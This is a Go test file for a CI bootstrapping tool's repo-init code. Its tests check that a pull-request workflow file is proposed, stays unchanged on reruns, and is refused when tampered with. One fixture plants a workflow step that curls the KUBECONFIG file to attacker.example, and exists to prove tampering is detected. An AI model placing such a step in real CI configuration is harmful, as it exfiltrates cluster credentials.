package repoinit

import (
	"bytes"
	"strings"
	"testing"

	"github.com/pocbot/pocbot/deploy"
)

func TestParsePRWorkflow(t *testing.T) {
	t.Parallel()
	const ref = "pocbot/pocbot@89abcdef0123456789abcdef0123456789abcdef # v1.2.4"
	for _, tc := range []struct {
		name, text string
		ok         bool
	}{
		{"init's", string(PRWorkflowFile(ref)), true},
		{"the template", deploy.PRWorkflow, true},
		{"a step added", strings.Replace(string(PRWorkflowFile(ref)), "    steps:\n", "    steps:\n      - run: env\n", 1), false},
		{"more permissions", strings.Replace(string(PRWorkflowFile(ref)), "checks: read", "checks: write", 1), false},
		{"the bot's workflow", string(WorkflowFile(ref, true, "")), false},
		{"empty", "", false},
	} {
		got, ok := ParsePRWorkflow([]byte(tc.text))
		if ok != tc.ok || ok && !strings.HasPrefix(got, "pocbot/pocbot@") {
			t.Errorf("%s: %q, %v; want ok %v", tc.name, got, ok, tc.ok)
		}
	}
}

// --pr-workflow adds the end-to-end workflow to init's pull request, pinned as the bot's; a rerun
// converges; a branch whose end-to-end workflow was changed is refused; one already on the
// default branch is the user's and never proposed over. Failed on the old code: init had no
// such file, and a branch holding it was refused as foreign.
func TestInitProposesThePRWorkflow(t *testing.T) {
	t.Parallel()
	f := newFixture(t, "acme/shop")
	withPR := func(c *Config) { c.PRWorkflow = true }
	rep, out, err := f.run(t, withPR)
	if err != nil || rep.PR == 0 {
		t.Fatalf("init --pr-workflow: %v, %+v\n%s", err, rep, out)
	}
	got, ok := f.gh.File("acme/shop", Branch, PRWorkflowPath)
	if !ok || !bytes.Equal(got, PRWorkflowFile(testRef)) {
		t.Fatalf("the branch's %s:\n%s", PRWorkflowPath, got)
	}
	if _, body, _ := f.gh.IssueBody("acme/shop", rep.PR); !strings.Contains(body, PRWorkflowPath) {
		t.Errorf("the pull request's description does not mention the end-to-end workflow: %q", body)
	}
	before := len(f.gh.Requests())
	for _, mut := range []func(*Config){withPR, nil} { // with or without the flag, init's branch is init's
		if rep2, out, err := f.run(t, mut); err != nil || rep2.PR != rep.PR {
			t.Fatalf("rerun: %v, %+v\n%s", err, rep2, out)
		}
	}
	if n, list := f.writes(before); n != 0 {
		t.Errorf("reruns wrote %v", list)
	}

	g := newFixture(t, "acme/shop")
	changed := strings.Replace(string(PRWorkflowFile(testRef)), "    steps:\n", "    steps:\n      - run: curl -d @$KUBECONFIG https://attacker.example\n", 1)
	g.plant(t, map[string]string{PRWorkflowPath: changed}, false)
	if _, out, err := g.run(t, withPR); err == nil || !strings.Contains(err.Error(), PRWorkflowPath) {
		t.Fatalf("init took a branch with a changed end-to-end workflow: %v\n%s", err, out)
	}

	h := newFixture(t, "acme/shop")
	mine := strings.Replace(string(PRWorkflowFile(testRef)), "TEST_COMMAND: make e2e", "TEST_COMMAND: ./e2e.sh", 1)
	h.gh.SetFile("acme/shop", "main", PRWorkflowPath, []byte(mine))
	if _, out, err := h.run(t, withPR); err != nil {
		t.Fatalf("init: %v\n%s", err, out)
	}
	if b, _ := h.gh.File("acme/shop", Branch, PRWorkflowPath); string(b) != mine {
		t.Errorf("init proposed over the user's end-to-end workflow:\n%s", b)
	}
}
